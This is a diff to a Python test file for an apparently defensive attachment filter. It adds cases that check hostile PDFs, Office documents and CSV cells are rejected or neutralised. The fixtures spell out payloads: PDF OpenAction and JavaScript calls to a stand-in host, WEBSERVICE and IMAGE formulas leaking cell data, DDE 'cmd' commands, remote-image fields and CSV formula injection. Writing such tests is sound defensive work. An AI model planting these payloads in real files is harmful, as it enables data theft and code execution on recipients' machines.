@@ -12,7 +12,7 @@ def package(*names: str) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as made:
         for name in names:
-            made.writestr(name, "x")
+            made.writestr(name, "<x/>")
     return out.getvalue()
 
 
@@ -33,6 +33,12 @@ SHEET = ("[Content_Types].xml", "xl/workbook.xml")
         ("a.xlsx", package(*SHEET, "xl/vbaProject.bin"), None),
         ("a.docx", package("[Content_Types].xml", "word/document.xml", "word/embeddings/o.bin"), None),
         ("a.zip", package("notes.txt"), None),
+        ("a.pdf", b"%PDF-1.4 /OpenAction [3 0 R /FitH null] /A << /S /URI /URI (https://a.example) >>", ".pdf"),
+        ("a.pdf", b"%PDF-1.4 /OpenAction << /S /URI /URI (https://a.example/?d=confided) >>", None),
+        ("a.pdf", b"%PDF-1.4 /Open#41ction 5 0 R", None),
+        ("a.pdf", b"%PDF-1.4 /AA<</O 5 0 R>>", None),
+        ("a.pdf", b"%PDF-1.4 /S /#4aavaScript /JS (this.submitForm('https://a.example'))", None),
+        ("a.pdf", b"%PDF-1.5 << /Type /ObjStm /N 9 >>", None),
         ("a.xlsx", b"PK\x03\x04broken", None),
         ("a.html", b"<script>", None),
         ("a.svg", b"<svg onload=x>", None),
@@ -86,10 +92,53 @@ def test_an_office_file_loads_and_runs_nothing_when_opened(kind: str, mode: str,
 
 
 @pytest.mark.parametrize(
-    "relations", ["<Relationships>", "<a>" + 2_000_000 * " " + "</a>", b""], ids=["cut", "large", "empty"]
+    "relations", ["<Relationships>", "<a>" + 5_000_000 * " " + "</a>", b""], ids=["cut", "large", "empty"]
 )
 def test_an_office_file_of_which_that_cannot_be_told_stays(relations: str | bytes) -> None:
     assert attachment("a.docx", related(relations)) is None
+
+
+@pytest.mark.parametrize(
+    ("part", "inside", "goes"),
+    [
+        ("xl/worksheets/sheet1.xml", "<f>SUM(A1:A9)*_xlfn.DAYS(B1,B2)</f><v>0</v>", True),
+        ("xl/worksheets/sheet1.xml", '<f>IF(A1="WEBSERVICE(x)|[y]",1,2)</f>', True),
+        ("xl/worksheets/sheet1.xml", "<t>IMAGE (voir https://a.example)</t>", True),
+        ("xl/worksheets/sheet1.xml", '<x14:formula1 xmlns:x14="x"><xm:f xmlns:xm="y">B!A1</xm:f></x14:formula1>', True),
+        ("xl/worksheets/sheet1.xml", '<f>_xlfn.WEBSERVICE("https://a.example/?d="&amp;A1)</f>', False),
+        ("xl/worksheets/sheet1.xml", '<x:f xmlns:x="y">_xlfn.IMAGE ("https://a.example/?d=confided")</x:f>', False),
+        ("xl/worksheets/sheet1.xml", "<f><b/>IMAGE(A1)</f>", False),
+        ("xl/worksheets/sheet1.xml", '<cfRule><formula>IMPORTDATA("x")</formula></cfRule>', False),
+        ("xl/worksheets/sheet1.xml", "<cfvo type='formula' val='RTD(A1)'/>", False),
+        ("xl/worksheets/sheet1.xml", "<f>cmd|'/C calc'!A0</f>", False),
+        ("xl/worksheets/sheet1.xml", "<f>'https://a.example/x.xlsx'#$S.A1</f>", False),
+        ("xl/odd", '<definedName name="x">IMAGE(A1)</definedName>', False),
+        ("word/document.xml", '<w:fldSimple xmlns:w="x" w:instr=" PAGE "/>', True),
+        ("word/document.xml", "<fldChar fldCharType='begin'/><instrText>TO</instrText><instrText>C</instrText>"
+         "<fldChar fldCharType='separate'/><fldChar fldCharType='end'/>", True),
+        ("word/document.xml", "<fldChar fldCharType='begin'/><instrText> INCLUDE</instrText><instrText>PICTURE x"
+         "</instrText><fldChar fldCharType='end'/>", False),
+        ("word/document.xml", "<fldChar fldCharType='begin'/><instrText>INCLUDEPICTURE</instrText>", False),
+        ("word/document.xml", "<fldSimple instr='DDEAUTO c:\\x'/>", False),
+        ("word/document.xml", '<v:imagedata xmlns:v="x" src="https://a.example/?d=confided"/>', False),
+        ("word/document.xml", '<v:imagedata xmlns:v="x" o:href="\\\\a.example\\x" xmlns:o="y"/>', False),
+        ("word/media/image1.svg", '<image/>" /><svg/>', False),
+        ("word/media/image1.svg", "<svg/>", False),
+        ("ppt/slides/slide1.xml", '<a:hlinkMouseOver xmlns:a="x"/>', False),
+        ("xl/data.bin", "\0\1", False),
+    ],
+)  # fmt: skip
+def test_no_formula_field_or_part_reaches_out(part: str, inside: str, goes: bool) -> None:
+    out = io.BytesIO(package("[Content_Types].xml", "xl/workbook.xml"))
+    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as made:
+        made.writestr(part, f"<a>{inside}</a>")
+        made.writestr("xl/media/image1.png", b"\x89PNG\r\n\x1a\n\0\1")
+    assert (attachment("a.xlsx", out.getvalue()) is not None) is goes
+
+
+def test_an_office_file_that_declares_entities_stays() -> None:
+    body = '<!DOCTYPE a [<!ENTITY b "IMAGE(">]><a><f>SUM(A1)</f></a>'
+    assert attachment("a.xlsx", related(body, "xl/worksheets/sheet1.xml")) is None
 
 
 @pytest.mark.parametrize(
@@ -101,6 +150,10 @@ def test_an_office_file_of_which_that_cannot_be_told_stays(relations: str | byte
         ('"=HYPERLINK(""x"")",b\n', '"\'=HYPERLINK(""x"")",b\n'),
         ("a\t@SUM(A1)\n", "a\t'@SUM(A1)\n"),
         (" =cmd,-x\n", "' =cmd,'-x\n"),
+        # Another program takes another separator.
+        ("a;b;c;d\nx,=IMAGE(A1);2;3;4\n", "a;b;c;d\nx,'=IMAGE(A1);2;3;4\n"),
+        ('a,b,c\n"x;\t +cmd|A0",2,3\n', "a,b,c\nx;\t '+cmd|A0,2,3\n"),
+        ("a;b;c\n-1,5;-2,5;il fait -3, dit-on\n", "a;b;c\n-1,5;-2,5;il fait -3, dit-on\n"),
     ],
 )
 def test_no_cell_is_a_formula(text: str, expected: str) -> None:
